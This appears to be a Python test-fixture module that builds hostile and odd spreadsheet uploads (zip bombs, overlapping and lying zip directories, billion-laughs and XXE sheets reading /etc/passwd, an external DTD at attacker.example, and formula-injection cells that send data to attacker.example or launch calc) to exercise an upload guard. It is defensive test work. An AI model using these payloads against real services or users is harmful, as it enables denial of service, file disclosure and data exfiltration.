"""Generators of hostile and odd uploads, for the guard's tests, the refusal benchmark and UI tests.

Each builder returns the bytes an attacker (or an unlucky analyst) would upload. Zip bombs are
built without ever holding their expanded content: one deflate segment, ended with a full
flush so it is byte-aligned and history-free, is repeated as often as needed.
`CASES` lists every case with the refusal code the guard must give (None: accepted).
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import date
from functools import cache
from pathlib import Path

import duckdb
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from analytics import store
from analytics.domain import FIELD_BY_NAME, Stage
from analytics.ingest.guard import WorkbookFormat

MB = 1024 * 1024

#: The columns of generated portfolios, as their headers (the labels are recognised synonyms).
PORTFOLIO_FIELDS = ("initiative_id", "name", "stage", "business_unit", "owner", "pilot_start",
                    "budget", "notes")
HEADERS = tuple(FIELD_BY_NAME[f].label for f in PORTFOLIO_FIELDS)
_STAGES = (Stage.IDEA, Stage.PILOT, Stage.SCALING, Stage.PRODUCTION, Stage.STOPPED)


def portfolio_rows(count: int, seed: int = 7) -> Iterator[tuple[object, ...]]:
    """`count` plausible initiative rows: id, name, stage, unit, owner, pilot start, budget, notes."""
    rng = random.Random(seed)
    units = ("Finance", "Operations", "Sales", "HR", "Supply Chain", "Legal")
    for n in range(1, count + 1):
        yield (
            f"AI-{n:06d}",
            f"Initiative {n} {rng.choice(('forecasting', 'triage', 'assistant', 'matching'))}",
            rng.choice(_STAGES).value,
            rng.choice(units),
            rng.choice(("A. Lee", "B. Osei", "C. Novak", "TBD")),
            date(2023 + rng.randrange(3), rng.randrange(1, 13), rng.randrange(1, 29)),
            float(rng.randrange(50, 2_000) * 1000),
            rng.choice(("", "on track", "waiting for data access", "vendor review")),
        )


def workbook_bytes(rows: Iterable[Sequence[object]], headers: Sequence[str] = HEADERS,
                   sheet: str = "Portfolio") -> bytes:
    """An .xlsx written by openpyxl in write-only mode (constant memory for big sheets).

    Text is stored as text even when it starts with "=" (openpyxl would make it a formula)."""
    book = Workbook(write_only=True)
    worksheet = book.create_sheet(sheet)
    worksheet.append(list(headers))
    for row in rows:
        worksheet.append([_text_cell(worksheet, v) if isinstance(v, str) and v.startswith("=") else v
                          for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _text_cell(worksheet: object, text: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(worksheet, value=text)
    cell.data_type = "s"
    return cell


def write_workbook(path: Path, rows: Iterable[Sequence[object]]) -> Path:
    path.write_bytes(workbook_bytes(rows))
    return path


@cache
def valid_workbook() -> bytes:
    return workbook_bytes(portfolio_rows(5))


@cache
def big_workbook_file(rows: int = 200_000) -> Path:
    """A legitimate `rows`-row portfolio cached in /tmp (generating 200k rows takes a while)."""
    path = Path("/tmp") / f"portfolio-{rows}-rows.xlsx"
    if not path.exists():
        partial = path.with_suffix(".partial")
        write_workbook(partial, portfolio_rows(rows))
        partial.replace(path)
    return path


# --------------------------------------------------------------------------------------------
# A raw zip writer: the directory says exactly what the test wants it to say.

@dataclass(frozen=True)
class RawPart:
    name: str
    compressed: bytes
    crc: int
    size: int                  # the uncompressed size the directory declares
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflated(name: str, content: bytes) -> RawPart:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    data = packer.compress(content) + packer.flush()
    return RawPart(name, data, zlib.crc32(content), len(content))


def stored(name: str, content: bytes) -> RawPart:
    return RawPart(name, content, zlib.crc32(content), len(content), zipfile.ZIP_STORED)


def repeated(name: str, prefix: bytes, block: bytes, times: int, suffix: bytes = b"") -> RawPart:
    """A part of `prefix` + `block` * `times` + `suffix`, compressed without materialising it."""
    def segment(content: bytes, final: bool) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        return packer.compress(content) + packer.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    compressed = segment(prefix, False) + segment(block, False) * times + segment(suffix, True)
    return RawPart(name, compressed, zlib.crc32(suffix, crc),
                   len(prefix) + len(block) * times + len(suffix))


def build_zip(parts: Sequence[RawPart], *, central_offsets: Sequence[int] | None = None) -> bytes:
    """A zip of `parts`; `central_offsets` lets the directory point parts anywhere (overlaps)."""
    out = io.BytesIO()
    offsets = []
    for part in parts:
        offsets.append(out.tell())
        name = part.name.encode()
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, part.flags, part.method, 0, 0x21,
                              part.crc, len(part.compressed), part.size, len(name), 0))
        out.write(name)
        out.write(part.compressed)
    directory_at = out.tell()
    pointed = central_offsets if central_offsets is not None else offsets
    for part, offset in zip(parts, pointed, strict=True):
        name = part.name.encode()
        out.write(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, part.flags, part.method, 0,
                              0x21, part.crc, len(part.compressed), part.size, len(name), 0, 0,
                              0, 0, 0, offset))
        out.write(name)
    size = out.tell() - directory_at
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(parts), len(parts), size,
                          directory_at, 0))
    return out.getvalue()


def parts_of(workbook: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rebuild(replacements: dict[str, RawPart | None], base: bytes | None = None) -> bytes:
    """The valid workbook's parts, with some replaced, added (by name) or removed (None)."""
    parts = {name: deflated(name, content) for name, content in parts_of(base or valid_workbook()).items()}
    for name, part in replacements.items():
        if part is None:
            parts.pop(name, None)
        else:
            parts[name] = part
    return build_zip(list(parts.values()))


SHEET = "xl/worksheets/sheet1.xml"


# --------------------------------------------------------------------------------------------
# Zip bombs and lies.

def zip_bomb(expanded: int = 180 * MB) -> bytes:
    """One sheet part that inflates `expanded` bytes from under 1 MB (about 335 times)."""
    block = b"<row><c t=\"inlineStr\"><is><t>AAAAAAAA</t></is></c></row>" * 16_384
    return rebuild({SHEET: repeated(SHEET, b"<worksheet><sheetData>", block, expanded // len(block))})


def declared_oversize(expanded: int = 1200 * MB) -> bytes:
    """A sheet part that really expands to 1.2 GB (the directory tells the truth)."""
    return rebuild({SHEET: repeated(SHEET, b"<worksheet>", b"\0" * MB, expanded // MB)})


def near_limits(expanded: int = 190 * MB) -> bytes:
    """An honest part just inside every limit (190 MB at ~150:1): accepted, and the guard must
    inflate all of it, streaming, to check its CRC and scan it for a DTD."""
    rng = random.Random(5)
    block = b"".join(bytes([rng.randrange(256)]) * 400 for _ in range(MB // 400))
    return rebuild({SHEET: repeated(SHEET, b"<worksheet>", block, expanded // len(block))})


def sheet_rows(rows: int, *, prefix: str = "", empty_rows: int = 0) -> RawPart:
    """A worksheet part of about `rows` rows of two number cells (and `empty_rows` formatted,
    empty rows first), optionally with a namespace prefix (`<x:row>`) as some generators write."""
    p = f"{prefix}:" if prefix else ""
    xmlns = f'xmlns{":" + prefix if prefix else ""}="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rng = random.Random(rows)
    per_block = min(rows, 1024)
    block = "".join(f"<{p}row><{p}c><{p}v>{rng.randrange(100)}</{p}v></{p}c><{p}c><{p}v>"
                    f"{rng.randrange(100)}</{p}v></{p}c></{p}row>" for _ in range(per_block))
    head = f"<{p}worksheet {xmlns}><{p}sheetData>" + f'<{p}row s="1" customFormat="1"/>' * empty_rows
    return repeated(SHEET, head.encode(), block.encode(), rows // per_block,
                    f"</{p}sheetData></{p}worksheet>".encode())


def million_rows() -> bytes:
    """A 1,048,575-row sheet in a few MB: within every size limit, far over the row limit."""
    return rebuild({SHEET: sheet_rows(1_048_575)})


def lying_sizes() -> bytes:
    """The directory declares 10 KB for a sheet that really inflates to 100 MB."""
    real = repeated(SHEET, b"<worksheet>", b"\0" * MB, 100)
    return rebuild({SHEET: replace(real, size=10_240)})


def overlapping_parts() -> bytes:
    """Two directory entries share one payload: the overlapping-zip-bomb trick."""
    parts = [deflated(name, content) for name, content in parts_of(valid_workbook()).items()]
    zipped = build_zip(parts)
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        offsets = [info.header_offset for info in archive.infolist()]
    offsets[-1] = offsets[0]
    return build_zip(parts, central_offsets=offsets)


def many_parts(count: int = 12_000) -> bytes:
    return rebuild({f"xl/x/{n}.xml": stored(f"xl/x/{n}.xml", b"<a/>") for n in range(count)})


def duplicate_parts() -> bytes:
    parts = [deflated(name, content) for name, content in parts_of(valid_workbook()).items()]
    return build_zip([*parts, deflated(SHEET, b"<worksheet/>")])


def crc_mismatch() -> bytes:
    part = deflated(SHEET, parts_of(valid_workbook())[SHEET])
    return rebuild({SHEET: replace(part, crc=part.crc ^ 0xFFFF)})


def truncated_zip() -> bytes:
    data = valid_workbook()
    return data[: len(data) * 2 // 3]


def zip_encrypted_parts() -> bytes:
    part = deflated(SHEET, parts_of(valid_workbook())[SHEET])
    return rebuild({SHEET: replace(part, flags=0x1)})


def bzip2_part() -> bytes:
    part = deflated(SHEET, parts_of(valid_workbook())[SHEET])
    return rebuild({SHEET: replace(part, method=zipfile.ZIP_BZIP2)})


# --------------------------------------------------------------------------------------------
# XML attacks.

_BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>
"""

_EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>
"""


def billion_laughs() -> bytes:
    return rebuild({SHEET: deflated(SHEET, _BILLION_LAUGHS)})


def external_entity() -> bytes:
    return rebuild({SHEET: deflated(SHEET, _EXTERNAL_ENTITY)})


def utf16_doctype() -> bytes:
    """The XXE sheet re-encoded as UTF-16: a byte scan for '<!DOCTYPE' alone misses it."""
    text = _EXTERNAL_ENTITY.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return rebuild({SHEET: deflated(SHEET, text.encode("utf-16"))})


def doctype_in_content_types() -> bytes:
    name = "[Content_Types].xml"
    content = b'<!DOCTYPE Types SYSTEM "http://attacker.example/t.dtd">' + parts_of(valid_workbook())[name]
    return rebuild({name: deflated(name, content)})


def doctype_late_in_big_sheet() -> bytes:
    """A DOCTYPE buried after 5 MB of ordinary cells, beyond any prefix-only scan."""
    rng = random.Random(3)
    rows = b"".join(b"<row><c><v>%d</v></c></row>" % rng.randrange(10**9) for _ in range(200_000))
    content = b"<worksheet><sheetData>" + rows + b"<!DOCTYPE x [<!ENTITY a 'b'>]></sheetData></worksheet>"
    return rebuild({SHEET: deflated(SHEET, content)})


def formula_injection_workbook() -> bytes:
    """A legitimate workbook whose text cells would run as formulas if exported naively."""
    rows = [
        ("AI-1", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", Stage.PILOT.value,
         "Finance", "+cmd|' /C calc'!A0", date(2024, 1, 15), 100_000.0, "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("AI-2", "-2+3+cmd|' /C calc'!A0", Stage.IDEA.value, "Sales", "\t=1+1", None, -5.0,
         "\r=1+1"),
    ]
    return workbook_bytes(rows)


# --------------------------------------------------------------------------------------------
# Other formats an upload may really be.

def macro_workbook() -> bytes:
    name = "xl/vbaProject.bin"
    return rebuild({name: deflated(name, b"\xd0\xcf\x11\xe0" + os.urandom(2048))})


def xlsb_package() -> bytes:
    """The parts that make a zip an .xlsb package (the binary parts themselves are not checked)."""
    parts = parts_of(valid_workbook())
    return build_zip([deflated("[Content_Types].xml", parts["[Content_Types].xml"]),
                      deflated("_rels/.rels", parts["_rels/.rels"]),
                      deflated("xl/workbook.bin", os.urandom(512))])


def missing_workbook_part() -> bytes:
    return rebuild({"xl/workbook.xml": None})


def word_package() -> bytes:
    return build_zip([deflated("[Content_Types].xml", b"<Types/>"),
                      deflated("word/document.xml", b"<w:document/>")])


def zip_holding_workbook() -> bytes:
    return build_zip([stored("portfolio-2025-03.xlsx", valid_workbook())])


_ODS_CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
<office:body><office:spreadsheet><table:table table:name="Portfolio">{rows}</table:table>
</office:spreadsheet></office:body></office:document-content>"""
_ODS_MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">
<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>"""


def ods_workbook(rows: Sequence[Sequence[str]] | None = None) -> bytes:
    """A minimal OpenDocument spreadsheet of text cells (what LibreOffice users upload)."""
    table = rows if rows is not None else [HEADERS[:3], ("AI-1", "Invoice triage", Stage.PILOT.value)]
    xml_rows = "".join(
        "<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>'
            for cell in row) + "</table:table-row>"
        for row in table)
    return build_zip([stored("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                      deflated("META-INF/manifest.xml", _ODS_MANIFEST),
                      deflated("content.xml", _ODS_CONTENT.format(rows=xml_rows).encode())])


def odt_document() -> bytes:
    return build_zip([stored("mimetype", b"application/vnd.oasis.opendocument.text"),
                      deflated("content.xml", b"<office:document-content/>")])


def png_image() -> bytes:
    """A real 1x1 PNG, as when a screenshot is renamed portfolio.xlsx."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


def pdf_document() -> bytes:
    return b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def csv_text() -> bytes:
    lines = [",".join(HEADERS)] + [",".join(str(v) for v in row) for row in portfolio_rows(5)]
    return ("\n".join(lines) + "\n").encode()


def html_table() -> bytes:
    cells = "".join(f"<th>{h}</th>" for h in HEADERS)
    return f"<html><body><table><tr>{cells}</tr></table></body></html>".encode()


def spreadsheetml_2003() -> bytes:
    return (b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
            b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>')


def random_bytes(size: int = 64 * 1024, seed: int = 11) -> bytes:
    return random.Random(seed).randbytes(size)


def too_large_file(size: int = 26 * MB) -> bytes:
    return valid_workbook() + b"\0" * (size - len(valid_workbook()))


# --------------------------------------------------------------------------------------------
# OLE2 compound files ([MS-CFB] version 3), written by hand: no package on the machine writes them.

_FREE, _END, _FAT_SECTOR, _NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR, _MINI, _CUTOFF = 512, 64, 4096


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A compound file holding `streams` at its root (small ones in the mini stream, per spec)."""
    ordered = sorted(streams.items(), key=lambda item: (len(item[0]), item[0].upper()))
    mini = bytearray()
    minifat: list[int] = []
    placed: list[tuple[str, bytes, int, bool]] = []   # name, content, start, in mini stream
    big: list[bytes] = []
    for name, content in ordered:
        if len(content) < _CUTOFF:
            start = len(mini) // _MINI
            count = max(1, -(-len(content) // _MINI))
            minifat.extend(range(start + 1, start + count))
            minifat.append(_END)
            mini += content.ljust(count * _MINI, b"\0")
            placed.append((name, content, start, True))
        else:
            placed.append((name, content, -1, False))
            big.append(content)

    def sectors(size: int) -> int:
        return -(-size // _SECTOR)

    dir_secs = sectors((len(placed) + 1) * 128)
    minifat_secs = sectors(len(minifat) * 4)
    mini_secs = sectors(len(mini))
    big_secs = [sectors(len(b)) for b in big]
    others = dir_secs + minifat_secs + mini_secs + sum(big_secs)
    fat_secs = 1
    while fat_secs * (_SECTOR // 4) < others + fat_secs:
        fat_secs += 1
    fat: list[int] = [_FAT_SECTOR] * fat_secs
    next_free = fat_secs

    def allocate(count: int) -> int:
        nonlocal next_free
        if count == 0:
            return _END
        start = next_free
        fat.extend(range(start + 1, start + count))
        fat.append(_END)
        next_free += count
        return start

    first_dir = allocate(dir_secs)
    first_minifat = allocate(minifat_secs)
    first_mini = allocate(mini_secs)
    big_starts = iter([allocate(n) for n in big_secs])
    fat.extend([_FREE] * (fat_secs * (_SECTOR // 4) - len(fat)))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB3I", len(encoded), kind, 1,
                                                       _NO_STREAM, right, child)
                + b"\0" * 36 + struct.pack("<IQ", start, size))

    directory = [entry("Root Entry", 5, 1 if placed else _NO_STREAM, _NO_STREAM,
                       first_mini if mini else _END, len(mini))]
    for index, (name, content, start, in_mini) in enumerate(placed, start=1):
        right = index + 1 if index < len(placed) else _NO_STREAM
        directory.append(entry(name, 2, _NO_STREAM, right,
                               start if in_mini else next(big_starts), len(content)))
    directory_bytes = b"".join(directory).ljust(dir_secs * _SECTOR, b"\0")
    for at in range(len(directory) * 128, len(directory_bytes), 128):  # unused entries
        directory_bytes = (directory_bytes[:at + 68]
                           + struct.pack("<3I", _NO_STREAM, _NO_STREAM, _NO_STREAM)
                           + directory_bytes[at + 80:])

    difat = list(range(fat_secs)) + [_FREE] * (109 - fat_secs)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, fat_secs, first_dir, 0, _CUTOFF,
                            first_minifat, minifat_secs, _END, 0)
              + struct.pack("<109I", *difat))
    body = [struct.pack(f"<{len(fat)}I", *fat), directory_bytes,
            struct.pack(f"<{len(minifat)}I", *minifat).ljust(minifat_secs * _SECTOR, b"\0"),
            bytes(mini).ljust(mini_secs * _SECTOR, b"\0")]
    body += [b.ljust(n * _SECTOR, b"\0") for b, n in zip(big, big_secs, strict=True)]
    return header + b"".join(body)


def _biff(record: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", record, len(body)) + body


_BOF = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
_EOF = _biff(0x000A)


def legacy_xls(padding: int = 0) -> bytes:
    """An Excel 97-2003 container: a Workbook stream of BIFF8 records (`padding` makes it big)."""
    filler = b"".join(_biff(0x003C, b"\0" * 1024) for _ in range(padding))
    return compound_file({"Workbook": _BOF + filler + _EOF,
                          "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46})


def encrypted_xls() -> bytes:
    """An .xls with a password: RC4 CryptoAPI FILEPASS right after the BOF."""
    filepass = _biff(0x002F, struct.pack("<HHH", 1, 4, 2) + os.urandom(48))
    return compound_file({"Workbook": _BOF + filepass + os.urandom(5000)})


def password_protected_xlsx() -> bytes:
    """What Excel writes for an encrypted .xlsx: a compound file with the package encrypted."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
    package = struct.pack("<Q", 9000) + os.urandom(9008)
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": package,
                          "\x06DataSpaces": b"\0" * 64})


def word_97_document() -> bytes:
    return compound_file({"WordDocument": os.urandom(6000), "1Table": os.urandom(600)})


def damaged_compound_file() -> bytes:
    data = bytearray(legacy_xls())
    struct.pack_into("<I", data, 0x30, 0x7FFFFFF0)  # the directory starts past the end
    return bytes(data)


# --------------------------------------------------------------------------------------------
# Databases for the crash and backup tests: canonical rows stored the way an import stores them.

def canonical_rows(count: int, seed: int = 1) -> pd.DataFrame:
    """`count` initiative rows as `store.write_snapshot` takes them (ROW_COLUMNS but as_of)."""
    rows = list(portfolio_rows(count, seed))
    return pd.DataFrame({
        "initiative_id": [r[0] for r in rows],
        "source_row": range(2, count + 2),
        "name": [r[1] for r in rows],
        "stage": [r[2] for r in rows],
        "business_unit": [r[3] for r in rows],
        "owner": [r[4] for r in rows],
        "pilot_start": pd.to_datetime([r[5] for r in rows]),
        "budget": [r[6] for r in rows],
        "notes": [r[7] or None for r in rows],
        "stage_raw": [r[2] for r in rows],
        "on_hold": [False] * count,
        "raw_json": [json.dumps(dict(zip(HEADERS, map(str, r), strict=True))) for r in rows],
    })


def store_month(con: duckdb.DuckDBPyConnection, month: date, rows: pd.DataFrame, *,
                replace: bool = False) -> None:
    """One month's snapshot written through the store, as an import writes it."""
    workbook = f"workbook {month:%Y-%m} {len(rows)}".encode()
    meta = store.SnapshotMeta(as_of=month, file_name=f"portfolio-{month:%Y-%m}.xlsx",
                              sha256=hashlib.sha256(workbook).hexdigest(), sheet="Portfolio",
                              header_row=1, imported_by="test")
    store.write_snapshot(con, meta, rows, [], workbook, replace=replace)


DIGEST_TABLES = ("snapshots", "initiative_rows", "snapshot_problems", "workbooks", "audit", "mappings")


def database_digest(con: duckdb.DuckDBPyConnection) -> dict[str, tuple[int, int]]:
    """Row count and an order-free checksum of every stored table: equal digests, equal contents."""
    return {table: tuple(con.cursor().execute(
        f"SELECT count(*), coalesce(sum(hash(t)::HUGEINT), 0) FROM {table} t").fetchone())
        for table in DIGEST_TABLES}


# --------------------------------------------------------------------------------------------
# The second round (issue 11): shapes that crashed or bloated the native reader.

def sparse_extent(rows: int = 3, far_cell: str = "XFD1048576", dimension: bool = True) -> bytes:
    """The portfolio header, `rows` initiatives and one cell at `far_cell`: a few KB whose dense
    extent is 17 billion cells. The native reader aborted the process (SIGABRT) on it."""
    book = Workbook()
    sheet = book.active
    sheet.append(list(HEADERS[:3]))
    for n in range(rows):
        sheet.append([f"AI-{n:04d}", f"Initiative {n}", "Pilot"])
    sheet[far_cell] = "stray"
    out = io.BytesIO()
    book.save(out)
    if dimension:
        return out.getvalue()
    sheet_xml = re.sub(rb"<dimension [^>]*/>", b"", parts_of(out.getvalue())[SHEET])
    return rebuild({SHEET: deflated(SHEET, sheet_xml)}, out.getvalue())


def big_shared_strings(expanded: int = 80 * MB) -> bytes:
    """A shared-strings part of `expanded` bytes at a modest ratio (~150): under the old total
    limit, 296 MB of it cost the reader 574 MB."""
    rng = random.Random(11)
    block = b"".join(b"<si><t>" + bytes([65 + rng.randrange(26)]) * 400 + b"</t></si>"
                     for _ in range(MB // 420))
    return rebuild({"xl/sharedStrings.xml": repeated(
        "xl/sharedStrings.xml", b"<sst>", block, expanded // len(block), b"</sst>")})


# --------------------------------------------------------------------------------------------
# The catalogue.

@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    code: str | None          # the refusal code the guard gives; None when the file is accepted
    file_name: str = "portfolio.xlsx"
    accepted_as: WorkbookFormat | None = None


CASES: tuple[Case, ...] = (
    Case("zip_bomb", zip_bomb, "compression_ratio"),
    Case("declared_oversize", declared_oversize, "too_large_uncompressed"),
    Case("lying_sizes", lying_sizes, "damaged_workbook"),
    Case("overlapping_parts", overlapping_parts, "damaged_workbook"),
    Case("many_parts", many_parts, "too_many_parts"),
    Case("million_rows", million_rows, "too_many_rows"),
    Case("duplicate_parts", duplicate_parts, "damaged_workbook"),
    Case("crc_mismatch", crc_mismatch, "damaged_workbook"),
    Case("truncated_zip", truncated_zip, "damaged_workbook"),
    Case("zip_encrypted_parts", zip_encrypted_parts, "password_protected"),
    Case("bzip2_part", bzip2_part, "damaged_workbook"),
    Case("billion_laughs", billion_laughs, "xml_dtd"),
    Case("external_entity", external_entity, "xml_dtd"),
    Case("utf16_doctype", utf16_doctype, "xml_dtd"),
    Case("doctype_in_content_types", doctype_in_content_types, "xml_dtd"),
    Case("doctype_late_in_big_sheet", doctype_late_in_big_sheet, "xml_dtd"),
    Case("password_protected_xlsx", password_protected_xlsx, "password_protected"),
    Case("encrypted_xls", encrypted_xls, "password_protected", "portfolio.xls"),
    Case("damaged_compound_file", damaged_compound_file, "damaged_workbook", "portfolio.xls"),
    Case("word_97_document", word_97_document, "not_a_workbook", "portfolio.xls"),
    Case("missing_workbook_part", missing_workbook_part, "missing_workbook_parts"),
    Case("word_package", word_package, "not_a_workbook"),
    Case("odt_document", odt_document, "not_a_workbook", "portfolio.ods"),
    Case("zip_holding_workbook", zip_holding_workbook, "not_a_workbook"),
    Case("renamed_png", png_image, "not_a_workbook"),
    Case("renamed_pdf", pdf_document, "not_a_workbook"),
    Case("csv_renamed_xlsx", csv_text, "not_a_workbook"),
    Case("html_as_xls", html_table, "not_a_workbook", "portfolio.xls"),
    Case("spreadsheetml_2003", spreadsheetml_2003, "not_a_workbook", "portfolio.xml"),
    Case("empty_file", lambda: b"", "empty_file"),
    Case("random_bytes", random_bytes, "not_a_workbook"),
    Case("too_large_file", too_large_file, "file_too_large"),
    Case("sparse_extent", sparse_extent, "sheet_too_wide"),
    Case("sparse_extent_3000_rows", lambda: sparse_extent(rows=3_000), "sheet_too_wide"),
    Case("sparse_extent_no_dimension", lambda: sparse_extent(dimension=False), "sheet_too_long"),
    Case("big_shared_strings", big_shared_strings, "too_much_text"),
    Case("formula_injection", formula_injection_workbook, None, accepted_as=WorkbookFormat.XLSX),
    Case("near_limits", near_limits, None, accepted_as=WorkbookFormat.XLSX),
    Case("macro_workbook", macro_workbook, None, "portfolio.xlsm", WorkbookFormat.XLSM),
    Case("xlsb_package", xlsb_package, None, "portfolio.xlsb", WorkbookFormat.XLSB),
    Case("legacy_xls", legacy_xls, None, "portfolio.xls", WorkbookFormat.XLS),
    Case("legacy_xls_large", lambda: legacy_xls(padding=8), None, "portfolio.xls", WorkbookFormat.XLS),
    Case("ods_workbook", ods_workbook, None, "portfolio.ods", WorkbookFormat.ODS),
)
CASE_BY_NAME: dict[str, Case] = {case.name: case for case in CASES}
